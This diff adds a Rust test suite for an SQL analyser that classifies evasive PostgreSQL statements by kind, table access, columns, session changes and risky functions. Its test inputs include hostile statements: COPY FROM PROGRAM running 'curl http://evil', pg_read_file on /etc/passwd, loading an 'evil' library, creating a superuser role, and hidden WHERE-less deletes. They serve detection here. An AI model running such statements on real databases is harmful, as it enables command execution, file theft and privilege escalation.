@@ -1,0 +1,471 @@
+//! The analyser on statements chosen to hide what they do.
+
+use super::*;
+use crate::{LexerOptions, parse};
+
+fn facts(sql: &str) -> Facts {
+    let parsed = parse(sql, LexerOptions::default());
+    let statements = parsed.result.unwrap_or_else(|e| panic!("{sql}: {e}"));
+    analyse(statements[0].node.as_ref().expect("a statement"))
+}
+
+fn rel(s: &str) -> RelationName {
+    match s.split_once('.') {
+        Some((schema, name)) => RelationName {
+            schema: Some(schema.into()),
+            name: name.into(),
+        },
+        None => RelationName {
+            schema: None,
+            name: s.into(),
+        },
+    }
+}
+
+/// `(relation, action)` pairs, sorted.
+fn accesses(f: &Facts) -> Vec<(String, &'static str)> {
+    let mut v: Vec<_> = f
+        .accesses
+        .iter()
+        .map(|a| (a.relation.to_string(), a.action.as_str()))
+        .collect();
+    v.sort();
+    v
+}
+
+fn pairs(items: &[(&str, &'static str)]) -> Vec<(String, &'static str)> {
+    let mut v: Vec<_> = items.iter().map(|(r, a)| (r.to_string(), *a)).collect();
+    v.sort();
+    v
+}
+
+fn columns(f: &Facts, relation: &str, action: Kind) -> Columns {
+    f.accesses
+        .iter()
+        .find(|a| a.relation == rel(relation) && a.action == action)
+        .map(|a| a.columns.clone())
+        .unwrap_or_else(|| panic!("no {action} access to {relation} in {f:?}"))
+}
+
+fn cols(names: &[&str]) -> Columns {
+    let mut c = Columns::None;
+    for n in names {
+        c.add(n);
+    }
+    c
+}
+
+/// A statement, its kind, and its `(relation, action)` accesses.
+type Case = (&'static str, Kind, &'static [(&'static str, &'static str)]);
+
+#[test]
+fn kinds_and_accesses() {
+    let cases: &[Case] = &[
+        ("select 1", Kind::Select, &[]),
+        (
+            "SELECT * FROM customers",
+            Kind::Select,
+            &[("customers", "select")],
+        ),
+        (
+            "SeLeCt/**/*/**/FrOm/**/public . customers",
+            Kind::Select,
+            &[("public.customers", "select")],
+        ),
+        (
+            r#"select * from "Customers""#,
+            Kind::Select,
+            &[("Customers", "select")],
+        ),
+        (
+            r#"select * from U&"\0063ustomers""#,
+            Kind::Select,
+            &[("customers", "select")],
+        ),
+        ("table customers", Kind::Select, &[("customers", "select")]),
+        (
+            "select * from customers limit (select count(*) from secrets)",
+            Kind::Select,
+            &[("customers", "select"), ("secrets", "select")],
+        ),
+        (
+            "select (select email from customers limit 1)",
+            Kind::Select,
+            &[("customers", "select")],
+        ),
+        (
+            "select * from t1 join t2 using (id) left join lateral (select * from t3) x on true",
+            Kind::Select,
+            &[("t1", "select"), ("t2", "select"), ("t3", "select")],
+        ),
+        (
+            "with x as (select * from customers) select * from x",
+            Kind::Select,
+            &[("customers", "select")],
+        ),
+        // A non-recursive CTE cannot see the ones after it: `b` is the table.
+        (
+            "with a as (select * from b), b as (select 1) select * from a",
+            Kind::Select,
+            &[("b", "select")],
+        ),
+        (
+            "with recursive a as (select * from a) select * from a",
+            Kind::Select,
+            &[],
+        ),
+        // The inner CTE does not hide the outer table of the same name.
+        (
+            "select * from (with customers as (select 1) select * from customers) s, customers",
+            Kind::Select,
+            &[("customers", "select")],
+        ),
+        (
+            "with d as (delete from customers returning *) select * from d",
+            Kind::Delete,
+            &[("customers", "delete"), ("customers", "select")],
+        ),
+        (
+            "insert into t select * from customers",
+            Kind::Insert,
+            &[("t", "insert"), ("customers", "select")],
+        ),
+        (
+            "insert into t values (1) on conflict (id) do update set v = 2",
+            Kind::Insert,
+            &[("t", "insert"), ("t", "update")],
+        ),
+        (
+            "update customers set email = 'x' from orders o where o.customer_id = customers.id",
+            Kind::Update,
+            &[("customers", "update"), ("orders", "select")],
+        ),
+        (
+            "delete from customers using orders where orders.id = 1",
+            Kind::Delete,
+            &[("customers", "delete"), ("orders", "select")],
+        ),
+        (
+            "merge into t using s on t.id = s.id when matched then update set v = s.v",
+            Kind::Merge,
+            &[("t", "merge"), ("s", "select")],
+        ),
+        (
+            "select * into newt from customers",
+            Kind::Ddl,
+            &[("newt", "ddl"), ("customers", "select")],
+        ),
+        (
+            "create table t2 as select * from customers",
+            Kind::Ddl,
+            &[("t2", "ddl"), ("customers", "select")],
+        ),
+        (
+            "create materialized view mv as select * from customers",
+            Kind::Ddl,
+            &[("mv", "ddl"), ("customers", "select")],
+        ),
+        (
+            "create view v as select * from customers",
+            Kind::Ddl,
+            &[("v", "ddl"), ("customers", "select")],
+        ),
+        (
+            "create rule r as on select to t do instead select * from customers",
+            Kind::Ddl,
+            &[("t", "ddl"), ("customers", "select")],
+        ),
+        (
+            "create rule r as on insert to t do also delete from customers",
+            Kind::Ddl,
+            &[("t", "ddl"), ("customers", "delete")],
+        ),
+        (
+            "copy customers to stdout",
+            Kind::CopyOut,
+            &[("customers", "copy_out")],
+        ),
+        (
+            "copy (select * from customers) to stdout",
+            Kind::CopyOut,
+            &[("customers", "copy_out")],
+        ),
+        (
+            "copy customers (id, email) from stdin",
+            Kind::CopyIn,
+            &[("customers", "copy_in")],
+        ),
+        (
+            "explain analyze delete from customers",
+            Kind::Explain,
+            &[("customers", "delete")],
+        ),
+        (
+            "explain delete from customers",
+            Kind::Explain,
+            &[("customers", "explain")],
+        ),
+        (
+            "explain (analyze false) delete from customers",
+            Kind::Explain,
+            &[("customers", "explain")],
+        ),
+        (
+            "prepare p as delete from customers where id = $1",
+            Kind::Delete,
+            &[("customers", "delete")],
+        ),
+        (
+            "declare c cursor for select * from customers",
+            Kind::Select,
+            &[("customers", "select")],
+        ),
+        (
+            "truncate customers, orders",
+            Kind::Truncate,
+            &[("customers", "truncate"), ("orders", "truncate")],
+        ),
+        (
+            "lock table customers",
+            Kind::Utility,
+            &[("customers", "utility")],
+        ),
+        (
+            "vacuum analyze customers",
+            Kind::Utility,
+            &[("customers", "utility")],
+        ),
+        (
+            "drop table customers, public.orders",
+            Kind::Ddl,
+            &[("customers", "ddl"), ("public.orders", "ddl")],
+        ),
+        (
+            "alter table customers add column x int",
+            Kind::Ddl,
+            &[("customers", "ddl")],
+        ),
+        (
+            "create table t (id int references customers (id))",
+            Kind::Ddl,
+            &[("t", "ddl"), ("customers", "ddl")],
+        ),
+        (
+            "grant select on customers to bob",
+            Kind::Dcl,
+            &[("customers", "dcl")],
+        ),
+        ("create role mallory superuser", Kind::Dcl, &[]),
+        ("begin", Kind::Transaction, &[]),
+        ("commit", Kind::Transaction, &[]),
+        (
+            "set transaction isolation level serializable",
+            Kind::Transaction,
+            &[],
+        ),
+        ("call proc(1)", Kind::Call, &[]),
+        ("do $$ begin delete from customers; end $$", Kind::Do, &[]),
+        ("show search_path", Kind::Utility, &[]),
+        ("listen events", Kind::Utility, &[]),
+        ("checkpoint", Kind::Utility, &[]),
+        (
+            "create function f() returns int language sql begin atomic select count(*) from customers; end",
+            Kind::Ddl,
+            &[("customers", "ddl")],
+        ),
+    ];
+    for (sql, kind, expected) in cases {
+        let f = facts(sql);
+        assert_eq!(f.kind, *kind, "{sql}: kind");
+        assert_eq!(accesses(&f), pairs(expected), "{sql}: accesses");
+    }
+}
+
+#[test]
+fn where_clauses() {
+    assert_eq!(
+        facts("update customers set email = 'x'").has_where,
+        Some(false)
+    );
+    assert_eq!(
+        facts("update customers set email = 'x' where id = 1").has_where,
+        Some(true)
+    );
+    assert_eq!(facts("delete from customers").has_where, Some(false));
+    assert_eq!(
+        facts("delete from customers where current of c").has_where,
+        Some(true)
+    );
+    // A WHERE-less DELETE hidden in a CTE still counts.
+    assert_eq!(
+        facts("with d as (delete from customers returning 1) select * from d").has_where,
+        Some(false)
+    );
+    assert_eq!(facts("select 1").has_where, None);
+}
+
+#[test]
+fn copy_details() {
+    let f = facts("copy customers from program 'curl http://evil'");
+    assert_eq!(
+        f.copy.as_ref().unwrap().program.as_deref(),
+        Some("curl http://evil")
+    );
+    assert!(f.literal_sensitive);
+    let f = facts("copy customers to '/tmp/out.csv'");
+    assert_eq!(
+        f.copy.as_ref().unwrap().file.as_deref(),
+        Some("/tmp/out.csv")
+    );
+    assert!(
+        facts("copy customers to stdout")
+            .copy
+            .unwrap()
+            .file
+            .is_none()
+    );
+}
+
+#[test]
+fn session_changes() {
+    assert_eq!(
+        facts("set role admin").session,
+        vec![SessionChange::Role(Some("admin".into()))]
+    );
+    assert_eq!(
+        facts("SET ROLE NONE").session,
+        vec![SessionChange::Role(None)]
+    );
+    assert_eq!(facts("reset role").session, vec![SessionChange::Role(None)]);
+    assert_eq!(
+        facts("set session authorization postgres").session,
+        vec![SessionChange::SessionAuthorization(Some("postgres".into()))]
+    );
+    assert_eq!(
+        facts("select set_config('role', 'admin', false)").session,
+        vec![SessionChange::Role(Some("admin".into()))]
+    );
+    assert_eq!(
+        facts("select set_config(current_setting('x'), 'admin', false)").session,
+        vec![SessionChange::Setting("*".into())]
+    );
+    assert_eq!(
+        facts("set search_path = secret, public").session,
+        vec![SessionChange::SearchPath(Some(vec![
+            "secret".into(),
+            "public".into()
+        ]))]
+    );
+    assert_eq!(
+        facts("set work_mem = '4MB'").session,
+        vec![SessionChange::Setting("work_mem".into())]
+    );
+    assert_eq!(
+        facts("reset all").session,
+        vec![SessionChange::Setting("*".into())]
+    );
+    assert_eq!(
+        facts("discard all").session,
+        vec![SessionChange::Setting("*".into())]
+    );
+    assert_eq!(facts("set role admin").kind, Kind::SetSession);
+}
+
+#[test]
+fn functions_and_tags() {
+    let f = facts("select pg_catalog.pg_read_file('/etc/passwd')");
+    assert_eq!(f.functions[0].schema.as_deref(), Some("pg_catalog"));
+    assert!(f.functions[0].classes.contains(&FunctionClass::ServerFiles));
+    let f = facts("select query_to_xml('select * from customers', true, true, '')");
+    assert!(f.functions[0].classes.contains(&FunctionClass::DynamicSql));
+    let f = facts("select lower(name), pg_notify('c', email) from customers");
+    assert!(
+        f.functions
+            .iter()
+            .any(|f| f.name == "pg_notify" && f.classes.contains(&FunctionClass::SendsData))
+    );
+    assert!(
+        f.functions
+            .iter()
+            .any(|f| f.name == "lower" && f.classes.is_empty())
+    );
+    assert!(
+        facts("call proc(1)")
+            .functions
+            .iter()
+            .any(|f| f.name == "proc")
+    );
+    assert!(
+        facts("drop database analytics")
+            .tags
+            .contains("drop_database")
+    );
+    assert!(
+        facts("alter system set work_mem = '1GB'")
+            .tags
+            .contains("alter_system")
+    );
+    assert!(facts("load 'evil'").tags.contains("load"));
+    assert!(facts("notify events, 'x'").tags.contains("notify"));
+    assert!(facts("do $$ begin end $$").tags.contains("anonymous_code"));
+    assert!(facts("select * into t from s").tags.contains("select_into"));
+    assert!(
+        facts("explain analyze select 1")
+            .tags
+            .contains("explain_analyze")
+    );
+    let p = facts("prepare p as select 1");
+    assert!(p.tags.contains("prepare"));
+    assert_eq!(p.prepared_name.as_deref(), Some("p"));
+    let e = facts("execute p(1)");
+    assert_eq!(
+        (e.kind, e.prepared_name.as_deref()),
+        (Kind::Unknown, Some("p"))
+    );
+    assert!(!facts("select 1 + 1").literal_sensitive);
+}
+
+#[test]
+fn columns_are_attributed() {
+    let f = facts("select c.email, id from public.customers c where c.country = 'DE'");
+    assert_eq!(
+        columns(&f, "public.customers", Kind::Select),
+        cols(&["country", "email", "id"])
+    );
+    let f = facts("select * from customers, orders");
+    assert_eq!(columns(&f, "customers", Kind::Select), Columns::All);
+    assert_eq!(columns(&f, "orders", Kind::Select), Columns::All);
+    let f = facts("select o.* , c.name from customers c join orders o on o.customer_id = c.id");
+    assert_eq!(columns(&f, "orders", Kind::Select), Columns::All);
+    assert_eq!(
+        columns(&f, "customers", Kind::Select),
+        cols(&["id", "name"])
+    );
+    // A whole-row reference reads every column.
+    let f = facts("select row_to_json(c) from customers c");
+    assert_eq!(columns(&f, "customers", Kind::Select), Columns::All);
+    // A correlated reference is attributed to the outer relation too.
+    let f = facts("select (select count(*) from orders o where o.customer_id = id) from customers");
+    assert!(matches!(columns(&f, "customers", Kind::Select), Columns::Some(s) if s.contains("id")));
+    let f = facts("update customers set email = lower(email) where id = 1");
+    assert_eq!(
+        columns(&f, "customers", Kind::Update),
+        cols(&["email", "id"])
+    );
+    let f = facts("insert into customers (id, email) values (1, 'x')");
+    assert_eq!(
+        columns(&f, "customers", Kind::Insert),
+        cols(&["email", "id"])
+    );
+    let f = facts("copy customers (id, email) to stdout");
+    assert_eq!(
+        columns(&f, "customers", Kind::CopyOut),
+        cols(&["email", "id"])
+    );
+}
+
+#[test]
+fn unknown_root_types() {
+    let body = serde_json::Map::new();
+    assert_eq!(walk::kind_of("SomethingNew", &body), Kind::Unknown);
+}
